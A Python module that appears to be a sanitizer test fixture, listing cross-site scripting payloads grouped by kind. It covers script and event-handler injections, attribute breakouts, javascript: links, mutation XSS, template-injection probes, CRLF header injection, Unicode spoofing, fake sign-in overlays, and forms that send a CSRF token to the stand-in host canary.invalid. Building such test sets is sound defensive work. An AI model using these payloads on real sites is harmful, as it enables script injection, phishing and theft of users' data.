"""Texts that try to become more than text: to run, to load, to lead away, to look like others.

An element that one of them would make has the attribute `xss`; what runs sets `window.__hit`, opens
a dialog, or calls `canary.invalid`.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence

_SCRIPTS = [
    "<script xss>window.__hit=1</script>",
    "<ScRiPt xss>window.__hit=1</sCrIpT >",
    "<script xss src=//canary.invalid/x.js></script>",
    "<script xss src=data:text/javascript,window.__hit=1></script>",
    "<script xss type=module>import('//canary.invalid/m.js')</script>",
    "<<script xss>script>window.__hit=1<</script>/script>",
    "<script xss\x0c>window.__hit=1</script>",
    "</script><script xss>window.__hit=1</script>",
    "</title><script xss>window.__hit=1</script>",
    "</textarea><script xss>window.__hit=1</script>",
    "</style></noscript></template><script xss>window.__hit=1</script>",
    "--><script xss>window.__hit=1</script><!--",
    "]]><script xss>window.__hit=1</script>",
]

_HANDLERS = [
    "<img xss src=x onerror=window.__hit=1>",
    "<img xss src=x onerror=alert(1)//",
    "<img/xss/src='x'/onerror='window.__hit=1'>",
    '<img xss src="x` `<script>window.__hit=1</script>"` `>',
    "<img xss src=//canary.invalid/pixel.gif>",
    "<img xss srcset='//canary.invalid/s.gif 1x'>",
    "<svg xss onload=window.__hit=1>",
    "<svg xss><script>window.__hit=1</script></svg>",
    "<svg xss><animate onbegin=window.__hit=1 attributeName=x dur=1s>",
    "<svg xss><a xlink:href='javascript:window.__hit=1'><text y=9>x</text></a></svg>",
    "<svg xss><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    "<svg xss><set attributeName=onmouseover to=window.__hit=1>",
    "<body xss onload=window.__hit=1>",
    "<details xss open ontoggle=window.__hit=1><summary>x</summary></details>",
    "<input xss autofocus onfocus=window.__hit=1>",
    "<select xss autofocus onfocus=window.__hit=1>",
    "<video xss><source onerror=window.__hit=1></video>",
    "<audio xss src=x onerror=window.__hit=1>",
    "<marquee xss onstart=window.__hit=1>x</marquee>",
    "<div xss style=animation-name:x onanimationstart=window.__hit=1>",
    "<x xss tabindex=1 onfocus=window.__hit=1 id=x>",
    "<p xss contenteditable onbeforeinput=window.__hit=1>",
    "<button xss popovertarget=p>x</button><div id=p popover onbeforetoggle=window.__hit=1>",
]

_BREAKOUTS = [
    '"><img xss src=x onerror=window.__hit=1>',
    "'><img xss src=x onerror=window.__hit=1>",
    '" onmouseover=window.__hit=1 xss="',
    "' onfocus=window.__hit=1 autofocus xss='",
    '" autofocus onfocus="window.__hit=1" xss="',
    "` onmouseover=window.__hit=1 xss=`",
    '"/><svg xss onload=window.__hit=1>',
    "x onerror=window.__hit=1 xss",
    '" href="javascript:window.__hit=1" xss="',
    '" style="background:url(//canary.invalid/a)" xss="',
    '"} onclick={window.__hit=1} xss',
    "\\\"><script xss>window.__hit=1</script>",
    "'-window.__hit=1-'",
    '"-(window.__hit=1)-"',
    "';window.__hit=1;//",
    "\\';window.__hit=1;//",
    "${window.__hit=1}",
    "*/window.__hit=1/*",
]  # fmt: skip

_LINKS = [
    "javascript:window.__hit=1",
    "JaVaScRiPt:window.__hit=1",
    "java\tscript:window.__hit=1",
    "\x01javascript:window.__hit=1",
    "javascript://canary.invalid/%0Awindow.__hit=1",
    "javascript&colon;window.__hit=1",
    "data:text/html,<script xss>window.__hit=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//canary.invalid/path",
    "https://canary.invalid/?q=1#x",
    "/\\canary.invalid",
    "https:canary.invalid",
    "../../../../login",
    "..%2f..%2fsettings",
    "<a xss href='javascript:window.__hit=1'>click</a>",
    "<a xss href=\"&#106;avascript:window.__hit=1\">click</a>",
    "<a xss href=https://canary.invalid ping=https://canary.invalid>click</a>",
    "<base xss href=//canary.invalid/>",
    "<link xss rel=stylesheet href=//canary.invalid/x.css>",
    "<link xss rel=prefetch href=//canary.invalid/x>",
    "<meta xss http-equiv=refresh content='0;url=//canary.invalid/'>",
    "[link](javascript:window.__hit=1)",
    "![image](https://canary.invalid/i.png)",
    "[ref]: https://canary.invalid 'title'\n[ref]",
    "<https://canary.invalid/auto>",
    "[a](data:text/html,<script>window.__hit=1</script>)",
    '![x](x"onerror="window.__hit=1)',
]  # fmt: skip

_FRAMES_AND_FORMS = [
    "<iframe xss src=javascript:window.__hit=1></iframe>",
    "<iframe xss srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<iframe xss src=//canary.invalid/></iframe>",
    "<object xss data=javascript:window.__hit=1></object>",
    "<object xss data=//canary.invalid/o type=text/html></object>",
    "<embed xss src=//canary.invalid/e.swf>",
    "<frameset xss onload=window.__hit=1>",
    "</form><form xss action=//canary.invalid/><input name=csrf_token>",
    "<button xss formaction=javascript:window.__hit=1>x</button>",
    "<input xss type=submit form=reviewing formaction=//canary.invalid/>",
    "<input xss type=image src=//canary.invalid/b.png>",
    "<isindex xss action=javascript:window.__hit=1>",
    "<textarea xss name=csrf_token form=reviewing>",
    "<dialog xss open><form method=dialog><button>x</button></form></dialog>",
    "<portal xss src=//canary.invalid/></portal>",
]

_MUTATIONS = [
    "<noscript><p title='</noscript><img xss src=x onerror=window.__hit=1>'>",
    (
        "<math xss><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
        "onerror=window.__hit=1&gt;'>"
    ),
    "<svg xss></p><style><a id='</style><img src=x onerror=window.__hit=1>'>",
    (
        "<form xss><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
        "<img onerror=window.__hit=1 src>'>"
    ),
    "<template xss><script>window.__hit=1</script></template>",
    "<table xss><td background=//canary.invalid/t.png>",
    "<style xss>@import '//canary.invalid/i.css';</style>",
    "<div xss style='background:url(//canary.invalid/d.png)'>",
    "<style xss>*{display:none!important}</style>",
    "x{} body{background:url(//canary.invalid/c)}",
    "<!--><img xss src=x onerror=window.__hit=1>-->",
    "<!DOCTYPE html><html xss><body onload=window.__hit=1>",
    "<xss xss xmlns='http://www.w3.org/1999/xhtml' onclick=window.__hit=1>",
    "<?xml version='1.0'?><?xml-stylesheet href='//canary.invalid/x.xsl'?>",
    "<plaintext xss>",
    "<xmp xss><p title='</xmp><svg/onload=window.__hit=1>'>",
]  # fmt: skip

_TEMPLATES_AND_ENTITIES = [
    "{{7*7}}{{config}}{{''.__class__.__mro__}}",
    "{% for x in request.environ %}{{x}}{% endfor %}{# gone #}",
    "${7*7}#{7*7}<%= 7*7 %>@{7*7}",
    "{{constructor.constructor('window.__hit=1')()}}",
    "%s%(secret)s{0.__class__}%00%0d%0a",
    "&lt;script&gt;window.__hit=1&lt;/script&gt;",
    "&#60;img xss src=x onerror=window.__hit=1&#62;",
    "&lt;img xss src=x onerror&equals;window.__hit&equals;1&gt;&amp;amp;&quot;&apos;",
    "\\u003cimg src=x onerror=window.__hit=1\\u003e",
    "%3Cscript%3Ewindow.__hit=1%3C/script%3E",
    "+ADw-script+AD4-window.__hit=1+ADw-/script+AD4-",
    "\ufeff\uff1cscript\uff1ewindow.__hit=1\uff1c/script\uff1e",
    "\u02bc\u02ba\u2039img src=x onerror=window.__hit=1\u203a",
]

_LOOKS = [
    "\u202egnp.tpircs\u202c \u2066isolated\u2069 \u200f\u200e marks",
    "a\u200bb\u200cc\u200dd\u2060e\ufeff zero width",
    "\x1b[31mred\x1b[0m\x07\x08\x7f\x9b31m",
    "line\u2028separator\u2029paragraph\x85next",
    "\U000e0041\U000e0042\U000e0043 tags",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u0338l\u0321g\u0328o" * 3,
    "\r\nSet-Cookie: hit=1\r\n\r\n<script xss>window.__hit=1</script>",
    "W" * 300,
    "\u0645\u0631\u062d\u0628\u0627 <b xss>\u05e9\u05dc\u05d5\u05dd</b>",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u0000 nul \ud800 half",
]

_POLYGLOTS = [
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.__hit=1 )//%0D%0A//</stYle/</titLe/"
        "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg xss/oNloAd=window.__hit=1//>\\x3e"
    ),
    (
        "\"'--></noscript></title></textarea></style></template></select></script><svg xss "
        "onload=window.__hit=1>"
    ),
    "'\"><svg xss/onload=window.__hit=1>{{7*7}}<!--`${window.__hit=1}`-->javascript:alert(1)",
    "</option></select></datalist><img xss src=x onerror=window.__hit=1>",
    "</bdi></td></tr></table></main><h1 xss>Sign in again</h1>",
    "</summary></details><dialog xss open>Your session ended</dialog>",
]

PAYLOADS: Sequence[str] = [
    *_SCRIPTS,
    *_HANDLERS,
    *_BREAKOUTS,
    *_LINKS,
    *_FRAMES_AND_FORMS,
    *_MUTATIONS,
    *_TEMPLATES_AND_ENTITIES,
    *_LOOKS,
    *_POLYGLOTS,
]


def packed(most_chars: int, payloads: Sequence[str] = PAYLOADS) -> Iterator[str]:
    """Join payloads to texts up to a length; one that is too long alone is cut."""
    pack = ""
    for payload in (each[:most_chars] for each in payloads):
        if pack and len(pack) + 1 + len(payload) > most_chars:
            yield pack
            pack = ""
        pack = f"{pack} {payload}" if pack else payload
    yield pack
